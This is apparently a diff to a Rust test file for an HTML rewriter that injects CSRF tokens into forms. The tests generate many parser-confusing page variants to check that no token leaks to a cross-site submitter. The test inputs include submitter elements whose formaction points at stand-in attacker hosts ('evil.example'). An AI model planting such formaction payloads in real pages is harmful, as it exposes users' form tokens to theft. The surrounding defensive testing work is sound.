@@ -626,10 +626,11 @@ fn nothing_is_lost_where_lol_html_gives_up_before_a_misread_tag() {
 /// released it, so a cross-site submitter after it sent the form's token away (found while
 /// checking the text-only fuzz family of `rewrite_html-formatting-reconstructed-in-form.bin`,
 /// which assumed no leak). Where a page held whole names `formaction` or `formmethod`, every
-/// form with the token after a formatting element is held to the end now (a stream is not
-/// covered: SECURITY.md, "Open"). Swept on the page held whole: formatting elements, what
-/// closes them, forms, submitters after, both link modes (leaks and link targets; the text
-/// change the token input causes there is the open finding).
+/// form with the token closed after a formatting element is held to the end now; a stream
+/// follows the formatting elements (`html/formatting.rs`). Swept held whole, on the plain path
+/// and streamed: formatting elements, what closes them, forms, submitters after, both link
+/// modes (leaks and link targets; the text change the token input causes there is the open
+/// finding).
 #[test]
 fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
     let formatting = [
@@ -667,12 +668,7 @@ fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
                 for tail in after {
                     let page = format!("{open}{element}x{close}{form}{tail}");
                     for use_get in [false, true] {
-                        if let Some(verdict) = properties::whole_verdict(page.as_bytes(), use_get) {
-                            assert!(
-                                verdict.leaks.is_empty() && verdict.target_changed.is_none(),
-                                "use_get {use_get}: {page}: {verdict:#?}"
-                            );
-                        }
+                        assert_no_leak_nor_move(&page, use_get);
                         pages += 1;
                     }
                 }
@@ -687,8 +683,9 @@ fn a_submitter_after_a_form_a_formatting_element_reopens_in_gets_no_token() {
 /// or control after that end tag makes it again as the form's child, and the form's `</form>`
 /// leaves it open: a submitter after the form is inside the form (found while writing the
 /// stream's half of the fix above; the form had been held only when a formatting element came
-/// before its start tag). Swept on the page held whole: formatting elements, the elements that
-/// close them inside the form, what comes after, forms, submitters after, both link modes.
+/// before its start tag). Swept held whole, on the plain path and streamed: formatting
+/// elements, the elements that close them inside the form, what comes after, forms,
+/// submitters after, both link modes.
 #[test]
 fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
     let formatting = ["<b>", "<i>", "<a href=/a>", "<font size=2>", "<strong><em>"];
@@ -717,14 +714,7 @@ fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
                     for tail in after {
                         let page = format!("{form}{open}{element}y{close}{rest}{end}{tail}");
                         for use_get in [false, true] {
-                            if let Some(verdict) =
-                                properties::whole_verdict(page.as_bytes(), use_get)
-                            {
-                                assert!(
-                                    verdict.leaks.is_empty() && verdict.target_changed.is_none(),
-                                    "use_get {use_get}: {page}: {verdict:#?}"
-                                );
-                            }
+                            assert_no_leak_nor_move(&page, use_get);
                             pages += 1;
                         }
                     }
@@ -733,6 +723,59 @@ fn a_formatting_element_closed_inside_a_form_keeps_later_submitters_in_it() {
         }
     }
     assert_eq!(pages, 1080);
+}
+
+/// Formatting elements whose end lol_html's handlers cannot judge as a tree builder does: an
+/// end tag the tree builder ignores (behind a table cell's marker, out of scope past a
+/// `<table>`, in a `<select>`), and formatting elements in text some browser reads as markup
+/// (`<noscript>` for a visitor without JavaScript: its `</noscript>` is ignored behind the
+/// `<p>`, and the `<form>` closes the `<p>` and the `<b>`). A stream keeps a form closed after
+/// them held (`html/formatting.rs`); with each page in both quirks and standards mode.
+#[test]
+fn formatting_elements_whose_end_lol_html_cannot_judge_keep_forms_held() {
+    let before = [
+        "<p><b><table><td></b></td></table>",
+        "<p><b><table><caption></b></caption></table>",
+        "<p><i><object></i></object>",
+        "<p><u><select></u></select>",
+        "<p><a href=/a><svg><title></a></title></svg>",
+        "<noscript><p><b>x</noscript>",
+        "<noscript><p><font color=red>x</noscript>",
+    ];
+    let forms = [
+        "<form method=post action=/p>y</form>",
+        "<form method=post action=/p><input name=n></form>",
+    ];
+    let after = [
+        "<button formaction=//evil.example/b>go</button>",
+        "<input type=submit formaction=https://evil.example/i>",
+    ];
+    let mut pages = 0;
+    for doctype in ["", "<!DOCTYPE html>"] {
+        for start in before {
+            for form in forms {
+                for tail in after {
+                    let page = format!("{doctype}{start}{form}{tail}");
+                    for use_get in [false, true] {
+                        assert_no_leak_nor_move(&page, use_get);
+                        pages += 1;
+                    }
+                }
+            }
+        }
+    }
+    assert_eq!(pages, 112);
+}
+
+/// No token leaves and no link moves, held whole, on the plain path, and streamed (cut in
+/// the middle); the text the token input changes (the open formatting finding) is not judged.
+fn assert_no_leak_nor_move(page: &str, use_get: bool) {
+    for verdict in properties::rewrite_verdicts(page.as_bytes(), &[page.len() / 2], use_get) {
+        assert!(
+            verdict.leaks.is_empty() && verdict.target_changed.is_none(),
+            "use_get {use_get}: {page}: {verdict:#?}"
+        );
+    }
 }
 
 /// An HTML element left open inside an integration point (`<svg><title><form>`): a browser
